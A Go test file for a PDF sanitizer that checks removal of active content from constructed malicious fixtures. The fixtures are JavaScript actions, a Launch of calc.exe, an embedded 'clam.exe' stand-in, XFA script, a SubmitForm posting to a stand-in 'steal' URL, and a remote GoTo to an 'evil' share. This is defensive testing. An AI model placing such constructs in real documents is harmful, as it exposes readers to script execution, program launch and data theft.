package pdf

import (
	"bytes"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/kakehashi/kakehashi/internal/testtool"
	"github.com/kakehashi/kakehashi/sanitize"
	"github.com/kakehashi/kakehashi/sanitize/engine"
)

func run(t testing.TB, in []byte, policy sanitize.Policy, password string, tools sanitize.Tools) (*sanitize.Report, []byte) {
	t.Helper()
	e := &engine.Engine{Formats: map[sanitize.Family]sanitize.Sanitizer{sanitize.FamilyPDF: &Sanitizer{}}, Policy: policy, Tools: tools}
	var out bytes.Buffer
	rep, err := e.Sanitize(context.Background(), sanitize.Input{R: bytes.NewReader(in), Size: int64(len(in)), Name: "x.pdf"}, &out, engine.Options{Password: password})
	if err != nil {
		t.Fatal(err)
	}
	return rep, out.Bytes()
}

// maliciousPDFs are the named fixtures; each lists the removal it must
// cause and text that must not be in the output.
func maliciousPDFs(t *testing.T) []struct {
	name    string
	pdf     []byte
	removed sanitize.RemovalKind
	gone    string
} {
	js := func(s string) string { return "<< /S /JavaScript /JS (app.alert\\(" + s + "\\)) >>" }
	// A stand-in: the real clam.exe is tested from the Debian corpus in
	// TestClamPDF and must not sit in committed regression files.
	payload := "MZ\x90\x00 KAKEHASHI TEST PAYLOAD (not an executable)"
	return []struct {
		name    string
		pdf     []byte
		removed sanitize.RemovalKind
		gone    string
	}{
		{"openaction-js", basePDF("/OpenAction 6 0 R", "", map[int]string{6: js("1")}), sanitize.RemovedJavaScript, "app.alert"},
		{"page-aa-js", basePDF("", "/AA << /O "+js("2")+" >>", nil), sanitize.RemovedAdditionalAct, "app.alert"},
		{"names-js", basePDF("/Names << /JavaScript 7 0 R >>", "", map[int]string{7: "<< /Names [(x) 8 0 R] >>", 8: js("3")}), sanitize.RemovedJavaScript, "app.alert"},
		{"launch-link", basePDF("", "/Annots [9 0 R]", map[int]string{9: "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (calc.exe) >> >>"}), sanitize.RemovedLaunch, "calc.exe"},
		{"next-chain-js", basePDF("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next "+js("4")+" >>", "", nil), sanitize.RemovedJavaScript, "app.alert"},
		{"embedded-file", basePDF("/Names << /EmbeddedFiles << /Names [(clam.exe) 10 0 R] >> >>", "/Annots [12 0 R]", map[int]string{
			10: "<< /Type /Filespec /F (clam.exe) /EF << /F 11 0 R >> >>",
			11: stream(payload, "/Type /EmbeddedFile"),
			12: "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 10 0 R >>",
		}), sanitize.RemovedEmbeddedFile, "clam.exe"},
		{"xfa", basePDF("/AcroForm << /Fields [] /XFA 13 0 R /NeedsRendering true >>", "", map[int]string{13: stream("<xdp:xdp><script>app.alert(5)</script></xdp:xdp>", "")}), sanitize.RemovedXFA, "xdp:xdp"},
		{"richmedia", basePDF("", "/Annots [14 0 R]", map[int]string{14: "<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>"}), sanitize.RemovedRichMedia, "RichMedia"},
		{"submitform", basePDF("", "/Annots [15 0 R]", map[int]string{15: "<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /A << /S /SubmitForm /F (http://example.invalid/steal) >> >>"}), sanitize.RemovedSubmitForm, "steal"},
		{"gotor", basePDF("", "/Annots [16 0 R]", map[int]string{16: "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >> >>"}), sanitize.RemovedGoToRemote, "evil"},
	}
}

func TestRemovesActiveContent(t *testing.T) {
	dir := t.TempDir()
	for _, c := range maliciousPDFs(t) {
		t.Run(c.name, func(t *testing.T) {
			rep, out := run(t, c.pdf, sanitize.Policy{}, "", sanitize.Tools{})
			if rep.Verdict != sanitize.VerdictSanitized {
				t.Fatalf("verdict %s %s %s", rep.Verdict, rep.Reason, rep.Detail)
			}
			if rep.Totals()[c.removed] == 0 {
				t.Errorf("no %s reported: %+v", c.removed, rep.Removed)
			}
			if bytes.Contains(expand(t, out), []byte(c.gone)) {
				t.Errorf("%q still in the (decompressed) output", c.gone)
			}
			if !bytes.Contains(c.pdf, []byte(c.gone)) {
				t.Fatalf("fixture lacks %q: the check proves nothing", c.gone)
			}
			if err := os.WriteFile(filepath.Join(dir, c.name+".pdf"), out, 0o644); err != nil {
				t.Fatal(err)
			}
			checkPDF(t, filepath.Join(dir, c.name+".pdf"))
		})
	}
	// Independent: ClamAV with the payload signature and the active-content
	// rules (on inflated streams) finds nothing in any output.
	if found := testtool.Clamscan(t, testtool.ClamDB(t, "../formats/testdata/active.yar"), dir); len(found) > 0 {
		t.Errorf("ClamAV finds in outputs:\n%s", strings.Join(found, "\n"))
	}
}

// expand returns the PDF with every stream and object stream decompressed
// (qpdf QDF mode), so a search of its bytes sees all content.
func expand(t *testing.T, pdf []byte) []byte {
	t.Helper()
	qpdf := testtool.Require(t, "qpdf", "qpdf")
	dir := t.TempDir()
	in, out := filepath.Join(dir, "in.pdf"), filepath.Join(dir, "qdf.pdf")
	if err := os.WriteFile(in, pdf, 0o644); err != nil {
		t.Fatal(err)
	}
	msg, err := exec.Command(qpdf, "--qdf", "--object-streams=disable", in, out).CombinedOutput()
	if ee, ok := err.(*exec.ExitError); err != nil && !(ok && ee.ExitCode() == 3) {
		t.Fatalf("qpdf --qdf: %v: %s", err, msg)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// checkPDF runs qpdf --check and pdfdetach -list on a sanitized file.
func checkPDF(t *testing.T, path string) {
	t.Helper()
	qpdf := testtool.Require(t, "qpdf", "qpdf")
	if out, err := exec.Command(qpdf, "--check", path).CombinedOutput(); err != nil {
		t.Errorf("qpdf --check: %v\n%s", err, out)
	}
	pdfdetach := testtool.Require(t, "pdfdetach", "poppler-utils")
	out, err := exec.Command(pdfdetach, "-list", path).CombinedOutput()
	if err != nil || !strings.Contains(string(out), "0 embedded files") {
		t.Errorf("pdfdetach -list: %v %s", err, out)
	}
}

func TestLinksFollowPolicy(t *testing.T) {
	in := basePDF("", "/Annots [9 0 R]", map[int]string{9: "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (https://www.city.example.lg.jp/) >> >>"})
	rep, out := run(t, in, sanitize.Policy{}, "", sanitize.Tools{})
	if rep.Verdict != sanitize.VerdictClean || !bytes.Contains(expand(t, out), []byte("city.example.lg.jp")) {
		t.Errorf("a web link is kept by default: %s %v", rep.Verdict, rep.Removed)
	}
	rep, out = run(t, in, sanitize.Policy{RemoveHyperlinks: true}, "", sanitize.Tools{})
	if rep.Totals()[sanitize.RemovedURIAction] != 1 || bytes.Contains(expand(t, out), []byte("city.example.lg.jp")) {
		t.Errorf("remove_hyperlinks: %s %v", rep.Verdict, rep.Removed)
	}
}

func TestDestinationOpenActionStays(t *testing.T) {
	rep, out := run(t, basePDF("/OpenAction [3 0 R /Fit]", "", nil), sanitize.Policy{}, "", sanitize.Tools{})
	if rep.Verdict != sanitize.VerdictClean || !bytes.Contains(expand(t, out), []byte("/OpenAction")) {
		t.Errorf("a destination is not active content: %s %v", rep.Verdict, rep.Removed)
	}
}

// TestIncrementalUpdateHidesNothing: the first revision holds a script
// that the second revision no longer references. The bytes are still in
// the file; they must not be in the output.
func TestIncrementalUpdateHidesNothing(t *testing.T) {
	first := basePDF("/OpenAction 6 0 R", "", map[int]string{6: "<< /S /JavaScript /JS (app.alert\\(9\\)) >>"})
	in := update(first, map[int]string{1: "<< /Type /Catalog /Pages 2 0 R >>"})
	rep, out := run(t, in, sanitize.Policy{}, "", sanitize.Tools{})
	if rep.Verdict == sanitize.VerdictRejected {
		t.Fatalf("rejected: %s", rep.Detail)
	}
	if rep.Totals()[sanitize.RemovedIncremental] != 1 {
		t.Errorf("earlier revision not reported: %v", rep.Removed)
	}
	if bytes.Contains(expand(t, out), []byte("app.alert")) {
		t.Error("the hidden script is still in the output")
	}
}

func TestEncrypted(t *testing.T) {
	qpdf := testtool.Require(t, "qpdf", "qpdf")
	dir := t.TempDir()
	plain := filepath.Join(dir, "plain.pdf")
	if err := os.WriteFile(plain, basePDF("/OpenAction 6 0 R", "", map[int]string{6: "<< /S /JavaScript /JS (app.alert\\(7\\)) >>"}), 0o644); err != nil {
		t.Fatal(err)
	}
	enc := func(name, user string) []byte {
		p := filepath.Join(dir, name)
		if out, err := exec.Command(qpdf, "--encrypt", user, "owner-secret", "256", "--", plain, p).CombinedOutput(); err != nil {
			t.Fatalf("qpdf --encrypt: %v %s", err, out)
		}
		b, _ := os.ReadFile(p)
		return b
	}
	userPW := enc("user.pdf", "住民課2026")
	ownerOnly := enc("owner.pdf", "")

	if rep, _ := run(t, userPW, sanitize.Policy{}, "", sanitize.Tools{}); rep.Reason != sanitize.ReasonEncrypted {
		t.Errorf("no password: %s %s", rep.Reason, rep.Detail)
	}
	if rep, _ := run(t, userPW, sanitize.Policy{}, "wrong", sanitize.Tools{}); rep.Reason != sanitize.ReasonWrongPassword {
		t.Errorf("wrong password: %s %s", rep.Reason, rep.Detail)
	}
	for name, c := range map[string]struct {
		in []byte
		pw string
	}{"user password": {userPW, "住民課2026"}, "owner password only": {ownerOnly, ""}} {
		rep, out := run(t, c.in, sanitize.Policy{}, c.pw, sanitize.Tools{})
		if rep.Verdict != sanitize.VerdictSanitized || rep.Totals()[sanitize.RemovedJavaScript] == 0 {
			t.Errorf("%s: %s %s %v", name, rep.Verdict, rep.Detail, rep.Removed)
			continue
		}
		p := filepath.Join(dir, "out.pdf")
		os.WriteFile(p, out, 0o644)
		if got, _ := exec.Command(qpdf, "--show-encryption", p).CombinedOutput(); !strings.Contains(string(got), "not encrypted") {
			t.Errorf("%s: output still encrypted: %s", name, got)
		}
		checkPDF(t, p)
	}
}

func TestMalformed(t *testing.T) {
	gs := testtool.Require(t, "gs", "ghostscript")
	good := basePDF("/OpenAction 6 0 R", "", map[int]string{6: "<< /S /JavaScript /JS (app.alert\\(8\\)) >>"})
	// A header pdfcpu refuses ("unknown PDF header version") but readers
	// and Ghostscript accept.
	broken := bytes.Replace(good, []byte("%PDF-1.7"), []byte("%PDF-1."), 1)
	if rep, _ := run(t, broken, sanitize.Policy{}, "", sanitize.Tools{}); rep.Reason != sanitize.ReasonMalformed {
		t.Fatalf("without Ghostscript: %s %s", rep.Verdict, rep.Reason)
	}
	rep, out := run(t, broken, sanitize.Policy{}, "", sanitize.Tools{Ghostscript: gs})
	if rep.Verdict == sanitize.VerdictRejected || rep.Engine != "ghostscript" {
		t.Fatalf("not rebuilt by Ghostscript: %s %s %s", rep.Verdict, rep.Reason, rep.Detail)
	}
	if bytes.Contains(expand(t, out), []byte("app.alert")) {
		t.Error("script survived the Ghostscript rebuild")
	}
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "out.pdf"), out, 0o644)
	checkPDF(t, filepath.Join(dir, "out.pdf"))

	for name, in := range map[string][]byte{
		"garbage":   []byte("%PDF-1.4\nthis is not a pdf at all\n"),
		"truncated": good[:len(good)/3],
	} {
		for _, tools := range []sanitize.Tools{{}, {Ghostscript: gs}} {
			rep, _ := run(t, in, sanitize.Policy{}, "", tools)
			if rep.Verdict != sanitize.VerdictRejected {
				t.Errorf("%s with tools %+v: %s", name, tools, rep.Verdict)
			}
			if rep.Verdict == sanitize.VerdictRejected && rep.Reason != sanitize.ReasonMalformed {
				t.Errorf("%s: reason %s", name, rep.Reason)
			}
		}
	}
}

// TestTextSurvives makes a Japanese and English PDF with LibreOffice and
// compares pdftotext before and after.
func TestTextSurvives(t *testing.T) {
	soffice := testtool.Require(t, "soffice", "libreoffice-writer")
	pdftotext := testtool.Require(t, "pdftotext", "poppler-utils")
	dir := t.TempDir()
	txt := filepath.Join(dir, "memo.txt")
	os.WriteFile(txt, []byte(strings.Repeat("住民票の写しの交付申請について。Application for a copy of the resident record.\n", 80)), 0o644)
	cmd := exec.Command(soffice, "-env:UserInstallation=file://"+filepath.Join(dir, "profile"), "--headless", "--norestore", "--convert-to", "pdf", "--outdir", dir, txt)
	cmd.Env = append(os.Environ(), "HOME="+dir)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v %s", err, out)
	}
	in, err := os.ReadFile(filepath.Join(dir, "memo.pdf"))
	if err != nil {
		t.Fatal(err)
	}
	rep, out := run(t, in, sanitize.Policy{}, "", sanitize.Tools{})
	if rep.Verdict == sanitize.VerdictRejected {
		t.Fatalf("rejected: %s", rep.Detail)
	}
	os.WriteFile(filepath.Join(dir, "out.pdf"), out, 0o644)
	text := func(p string) string {
		b, err := exec.Command(pdftotext, "-enc", "UTF-8", p, "-").Output()
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	before, after := text(filepath.Join(dir, "memo.pdf")), text(filepath.Join(dir, "out.pdf"))
	if !strings.Contains(before, "住民票") || before != after {
		t.Errorf("text changed: %d → %d bytes", len(before), len(after))
	}
	checkPDF(t, filepath.Join(dir, "out.pdf"))
}

func TestClamPDF(t *testing.T) {
	in, err := os.ReadFile("/usr/share/clamav-testfiles/clam.pdf")
	if err != nil {
		testtool.Path(t, "/usr/share/clamav-testfiles/clam.pdf", "clamav-testfiles")
		t.Fatal(err)
	}
	rep, out := run(t, in, sanitize.Policy{}, "", sanitize.Tools{})
	if rep.Verdict != sanitize.VerdictSanitized || rep.Totals()[sanitize.RemovedEmbeddedFile] == 0 {
		t.Fatalf("%s %s %v", rep.Verdict, rep.Detail, rep.Removed)
	}
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "in.pdf"), in, 0o644)
	db := testtool.ClamDB(t)
	if len(testtool.Clamscan(t, db, filepath.Join(dir, "in.pdf"))) == 0 {
		t.Fatal("ClamAV does not find clam.exe in clam.pdf: the check proves nothing")
	}
	os.WriteFile(filepath.Join(dir, "out.pdf"), out, 0o644)
	if found := testtool.Clamscan(t, db, filepath.Join(dir, "out.pdf")); len(found) > 0 {
		t.Errorf("payload left: %v", found)
	}
	checkPDF(t, filepath.Join(dir, "out.pdf"))
}
